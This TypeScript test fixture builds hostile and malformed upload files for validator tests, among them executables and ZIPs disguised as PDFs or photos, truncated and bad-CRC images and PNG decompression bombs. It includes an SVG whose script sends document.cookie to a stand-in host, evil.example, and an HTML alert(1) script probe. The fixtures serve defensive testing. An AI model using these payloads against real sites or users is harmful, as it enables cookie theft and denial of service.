/** Builds the hostile and broken files the upload tests send: real bytes, made the way an attacker or a bad scanner would. */
import { crc32, deflateSync } from 'node:zlib';

import sharp from 'sharp';

/** One PNG chunk with a correct length and CRC. */
export function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

const PNG_SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex');

/** A PNG whose header declares width×height (8-bit RGB) with `idat` as its pixel data, every CRC right. */
export function pngWith(width: number, height: number, idat: Buffer): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 2;
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real photo-like image (gradient with noise) of the given size. */
export async function realImage(format: 'jpeg' | 'png', width = 320, height = 240): Promise<Buffer> {
  const pixels = Buffer.alloc(width * height * 3);
  for (let i = 0; i < pixels.length; i += 1) pixels[i] = (i * 7 + ((i * 2654435761) >>> 24)) & 0xff;
  const img = sharp(pixels, { raw: { width, height, channels: 3 } });
  return format === 'jpeg' ? img.jpeg({ quality: 85 }).toBuffer() : img.png().toBuffer();
}

/** Offset of the first PNG chunk of `type` (its length field). */
export function pngChunkOffset(png: Buffer, type: string): number {
  const at = png.indexOf(Buffer.from(type, 'latin1'));
  if (at < 4) throw new Error(`no ${type} chunk`);
  return at - 4;
}

/** The JPEG with its frame header (SOF0) claiming width×height. */
export function jpegClaiming(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg);
  const sof = copy.indexOf(Buffer.from([0xff, 0xc0]));
  if (sof < 0) throw new Error('no SOF0 marker');
  copy.writeUInt16BE(height, sof + 5);
  copy.writeUInt16BE(width, sof + 7);
  return copy;
}

/** What each hostile file is, keyed by a short name; all carry names that look allowed. */
export async function hostileFiles(): Promise<Record<string, { bytes: Buffer; fileName: string }>> {
  const jpeg = await realImage('jpeg');
  const png = await realImage('png');
  const exe = Buffer.concat([
    Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'),
    Buffer.alloc(200, 0x90),
    Buffer.from('This program cannot be run in DOS mode', 'latin1'),
  ]);
  const zip = Buffer.concat([
    Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'),
    Buffer.alloc(64, 1),
    Buffer.from('PK\x05\x06', 'latin1'),
    Buffer.alloc(18),
  ]);
  const badCrc = Buffer.from(png);
  const idatAt = pngChunkOffset(badCrc, 'IDAT');
  badCrc[idatAt + 8 + 10] = (badCrc[idatAt + 8 + 10] ?? 0) ^ 0xff;
  const zeros = Buffer.alloc(20 * 1024 * 1024);
  return {
    'exe-as-pdf': { bytes: exe, fileName: 'surat.pdf' },
    'exe-as-jpg': { bytes: exe, fileName: 'foto.jpg' },
    'polyglot-junk-then-pdf': {
      bytes: Buffer.concat([
        Buffer.from('GIF89a junk before the header ', 'latin1'),
        Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n', 'latin1'),
      ]),
      fileName: 'surat.pdf',
    },
    zip: { bytes: zip, fileName: 'berkas.pdf' },
    'svg-with-script': {
      bytes: Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://evil.example/"+document.cookie)</script></svg>',
      ),
      fileName: 'foto.png',
    },
    'html-as-jpg': { bytes: Buffer.from('<!doctype html><script>alert(1)</script>'), fileName: 'foto.jpg' },
    'png-named-pdf': { bytes: png, fileName: 'surat.pdf' },
    'jpeg-truncated': { bytes: jpeg.subarray(0, Math.floor(jpeg.length / 2)), fileName: 'foto.jpg' },
    'jpeg-header-only': { bytes: jpeg.subarray(0, 20), fileName: 'foto.jpg' },
    'jpeg-absurd-dimensions': { bytes: jpegClaiming(jpeg, 65000, 65000), fileName: 'foto.jpg' },
    'png-bad-crc': { bytes: badCrc, fileName: 'foto.png' },
    'png-truncated': { bytes: png.subarray(0, png.length - 30), fileName: 'foto.png' },
    'png-garbage-pixels-good-crc': { bytes: pngWith(320, 240, Buffer.alloc(500, 0x5a)), fileName: 'foto.png' },
    'png-bomb-50000x50000': { bytes: pngWith(50000, 50000, deflateSync(zeros, { level: 9 })), fileName: 'foto.png' },
    'png-bomb-more-data-than-header': {
      bytes: pngWith(100, 100, deflateSync(zeros, { level: 9 })),
      fileName: 'foto.png',
    },
    'pdf-header-only': { bytes: Buffer.from('%PDF-', 'latin1'), fileName: 'surat.pdf' },
    'pdf-truncated': {
      bytes: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pag', 'latin1'),
      fileName: 'surat.pdf',
    },
  };
}
